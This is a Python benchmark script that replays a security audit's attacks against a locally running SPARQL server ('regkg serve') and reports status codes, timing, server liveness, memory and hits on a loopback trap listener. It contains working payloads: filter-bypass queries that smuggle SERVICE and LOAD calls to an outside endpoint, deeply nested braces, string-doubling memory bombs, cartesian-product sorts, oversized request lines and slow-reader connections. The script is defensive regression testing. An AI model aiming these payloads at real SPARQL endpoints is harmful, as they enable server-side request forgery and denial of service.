"""`python -m bench.attacks --url http://127.0.0.1:PORT --pid PID`: the endpoint audit's attacks, as a table.

Runs each attack of the security audit against a running `regkg serve` on a
loopback address and reports what the server answered, how long it took,
whether a trap listener on 127.0.0.1 received any connection, and the
server's memory. Point it at an old and a new server to get "before" and
"after". Bounded: every attack sends a fixed, small number of requests with
time limits, and only to 127.0.0.x.

The deep-nesting admin update (which used to kill the server) runs only with
``--admin-token`` and last.
"""

from __future__ import annotations

import argparse
import socket
import statistics
import threading
import time
from pathlib import Path
from urllib.parse import quote

import httpx


def rss_mb(pid: int, children: bool = False) -> float:
    pids = [pid]
    if children:
        try:
            pids += [int(c) for c in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]
        except OSError:
            pass
    total = 0
    for p in pids:
        try:
            status = Path(f"/proc/{p}/status").read_text()
        except OSError:
            continue
        total += next((int(line.split()[1]) for line in status.splitlines() if line.startswith("VmRSS:")), 0)
    return total / 1024


class Trap:
    """Counts connections to a listener on 127.0.0.1."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.hits = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            self.hits += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2)
        self.sock.close()


def doubling(times: int, select: str = "?x") -> str:
    """A short query whose one string doubles ``times`` times (10 · 2^times characters)."""
    binds = " ".join(f"BIND(CONCAT(?a{i}, ?a{i}) AS ?a{i + 1})" for i in range(times))
    return f'SELECT {select} WHERE {{ BIND("0123456789" AS ?a0) {binds} BIND(?a{times} AS ?x) }}'


HEAVY = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }"
CHEAP = "ASK { ?s a rko:Modality }"


def run(base: str, pid: int, token: str | None) -> list[tuple[str, str, str, str]]:
    rows: list[tuple[str, str, str, str]] = []
    trap = Trap()
    target = f"http://127.0.0.1:{trap.port}/sparql"

    def attack(name: str, send) -> None:
        before_hits = trap.hits
        t = time.monotonic()
        try:
            r = send()
            code = r.json().get("error", {}).get("code", "") if r.headers.get("content-type", "").startswith(
                "application/json") else ""
            answer = f"{r.status_code} {code} ({len(r.content):,} B)"
        except httpx.HTTPError as exc:
            answer = f"no answer: {type(exc).__name__}"
        seconds = time.monotonic() - t
        time.sleep(0.3)
        try:
            alive = httpx.get(base + "/health", timeout=10).status_code == 200
        except httpx.HTTPError:
            alive = False
        rows.append((name, answer, f"{seconds:.2f} s; trap hits {trap.hits - before_hits}; "
                     f"server {'up' if alive else 'DOWN'}", f"{rss_mb(pid, True):.0f} MB"))

    q = lambda text: lambda: httpx.get(base + "/sparql", params={"query": text}, timeout=60)  # noqa: E731
    attack("SERVICE bypass 1 (<'>)", q(f"SELECT * WHERE {{ {{ FILTER(1<'>') }} UNION {{ SERVICE <{target}> {{ ?a ?b ?c }} }} }} # '"))
    attack("SERVICE bypass 2 (\\')", q(f"SELECT * WHERE {{ OPTIONAL {{ ?s rdf:type rdf:x\\' }} SERVICE <{target}> {{ ?x ?y ?z }} }} # '"))
    attack("SERVICE bypass via /ui/sparql",
           lambda: httpx.get(base + "/ui/sparql", params={"query": f"SELECT * WHERE {{ {{ FILTER(1<'>') }} UNION "
                                                                    f"{{ SERVICE <{target}> {{ ?a ?b ?c }} }} }} # '"}, timeout=60))
    attack("5,000 nested braces", lambda: httpx.post(base + "/sparql", data={
        "query": "SELECT * WHERE " + "{ " * 5000 + "?s ?p ?o" + " }" * 5000}, timeout=60))
    attack("600-byte string doubling (24x)", q(doubling(24)))
    attack("string doubling to 1.3 GB (27x)", q(doubling(27, "(STRLEN(?x) AS ?n)")))
    attack("ORDER BY over a cartesian product",
           q("SELECT ?a ?b ?c WHERE { ?a ?p1 ?x . ?b ?p2 ?y . ?c ?p3 ?z } ORDER BY ?a ?b ?c LIMIT 1"))
    attack("100 KB request target", lambda: raw_get(base, "/sparql?query=ASK%7B%7D%23" + "x" * 100_000))

    # starvation: a cheap query from one address while two heavy ones run from another
    heavy = httpx.Client(transport=httpx.HTTPTransport(local_address="127.0.0.2"), timeout=60)
    cheap = httpx.Client(transport=httpx.HTTPTransport(local_address="127.0.0.3"), timeout=60)
    waits = []
    for _ in range(3):
        threads = [threading.Thread(target=heavy.get, args=(base + "/sparql",), kwargs={"params": {"query": HEAVY}})
                   for _ in range(2)]
        for th in threads:
            th.start()
        time.sleep(0.3)
        t = time.monotonic()
        cheap.get(base + "/sparql", params={"query": CHEAP})
        waits.append(time.monotonic() - t)
        for th in threads:
            th.join(60)
    rows.append(("cheap query while 2 heavy run (p50 of 3)", "", f"{statistics.median(waits) * 1000:.0f} ms", ""))

    # slow readers: 8 connections ask for the doubling answer and never read
    main_before = rss_mb(pid)
    port = int(base.rsplit(":", 1)[1])
    socks = []
    for _ in range(8):
        s = socket.create_connection(("127.0.0.1", port), timeout=10)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.sendall(f"GET /sparql?query={quote(doubling(24))} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        socks.append(s)
    time.sleep(8)
    main_after = rss_mb(pid)
    for s in socks:
        s.close()
    rows.append(("8 slow readers of the doubling answer", "", f"main process {main_before:.0f} → {main_after:.0f} MB", ""))

    if token:
        auth = {"Authorization": f"Bearer {token}"}
        attack("LOAD past the update check", lambda: httpx.post(base + "/sparql", headers=auth, timeout=60, data={
            "update": f"INSERT {{ ?s ?p ?o }} WHERE {{ FILTER(1<'>') }} ; LOAD <{target}> # '"}))
        for i in range(3):
            attack(f"failed admin update #{i + 1} (CLEAR missing graph)", lambda: httpx.post(
                base + "/sparql", headers=auth, data={"update": "CLEAR GRAPH <urn:x:missing>"}, timeout=60))
        attack("admin update after failures", lambda: httpx.post(base + "/sparql", headers=auth, timeout=60, data={
            "update": "INSERT DATA { GRAPH <urn:x:g> { <urn:x:a> <urn:x:b> <urn:x:c> } }"}))
        attack("admin update, 5,000 nested braces", lambda: httpx.post(base + "/sparql", headers=auth, timeout=60, data={
            "update": "INSERT { ?s ?p ?o } WHERE " + "{ " * 5000 + "?s ?p ?o" + " }" * 5000}))
    trap.close()
    return rows


class _Raw:
    def __init__(self, status: int, headers: dict, content: bytes) -> None:
        self.status_code, self.headers, self.content = status, headers, content

    def json(self) -> dict:
        import json

        return json.loads(self.content)


def raw_get(base: str, target: str) -> _Raw:
    """A GET sent by hand: HTTP clients refuse request targets this long before sending them."""
    port = int(base.rsplit(":", 1)[1])
    with socket.create_connection(("127.0.0.1", port), timeout=30) as s:
        s.sendall(f"GET {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
        data = b""
        while chunk := s.recv(65536):
            data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.decode(errors="replace").split("\r\n")
    headers = dict(line.lower().split(": ", 1) for line in lines[1:] if ": " in line)
    return _Raw(int(lines[0].split()[1]), headers, body)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--url", required=True, help="base URL of a running regkg serve on 127.0.0.x")
    parser.add_argument("--pid", type=int, required=True, help="its process id (for memory)")
    parser.add_argument("--admin-token", help="REGKG_ADMIN_TOKEN of that server, to run the update attacks")
    args = parser.parse_args()
    if not args.url.startswith(("http://127.", "http://localhost")):
        parser.error("attacks go to loopback addresses only")
    from rich.console import Console
    from rich.table import Table

    table = Table(title=f"attacks on {args.url}")
    for col in ("attack", "answer", "time, trap, server", "server + workers RSS"):
        table.add_column(col)
    for row in run(args.url, args.pid, args.admin_token):
        table.add_row(*row)
    Console(width=200).print(table)


if __name__ == "__main__":
    main()
